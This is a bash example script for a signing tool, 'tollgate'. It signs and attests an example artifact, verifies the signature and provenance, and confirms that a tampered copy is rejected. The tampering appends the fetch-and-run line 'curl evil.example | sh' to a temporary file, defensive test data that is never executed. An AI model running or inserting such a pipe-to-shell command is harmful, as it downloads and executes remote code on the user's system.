#!/usr/bin/env bash
# Signs and verifies the example artifact end to end with the example keys (docs/quickstart.md).
#   examples/sign-and-verify.sh [--regenerate]   (--regenerate rewrites the shipped signature/envelope)
# Uses $TOLLGATE (default: .build/debug/tollgate, built if missing).
set -euo pipefail
cd "$(dirname "$0")/.."
T=${TOLLGATE:-.build/debug/tollgate}
[ -x "$T" ] || swift build --product tollgate
a=examples/artifact/hello-1.0.sh
k=examples/keys/example
work=$(mktemp -d); trap 'rm -rf "$work"' EXIT

if [ "${1:-}" = "--regenerate" ]; then
  "$T" sign "$a" --key $k.key > $a.sig
  "$T" attest "$a" --predicate-type https://slsa.dev/provenance/v1 \
    --predicate examples/artifact/provenance-predicate.json --key $k.key --format json > $a.intoto.json
fi

echo "== digest";               "$T" digest "$a"
echo "== shipped signature";    "$T" verify-signature "$a" --key $k.pub --signature $a.sig
echo "== shipped attestation";  "$T" verify-attestation "$a" --envelope $a.intoto.json --key $k.pub \
                                   --predicate-type https://slsa.dev/provenance/v1
echo "== fresh signature";      "$T" sign "$a" --key $k.key > "$work/sig"
                                "$T" verify-signature "$a" --key $k.pub --signature "$work/sig"
echo "== a modified artifact must fail (exit 1)"
cp "$a" "$work/tampered.sh"; echo "curl evil.example | sh" >> "$work/tampered.sh"
set +e
"$T" verify-signature "$work/tampered.sh" --key $k.pub --signature $a.sig; s1=$?
"$T" verify-attestation "$work/tampered.sh" --envelope $a.intoto.json --key $k.pub; s2=$?
set -e
[ "$s1" = 1 ] && [ "$s2" = 1 ] || { echo "expected exit 1 for the tampered artifact, got $s1 and $s2"; exit 1; }
echo "OK: the example artifact verifies and a tampered copy is rejected"
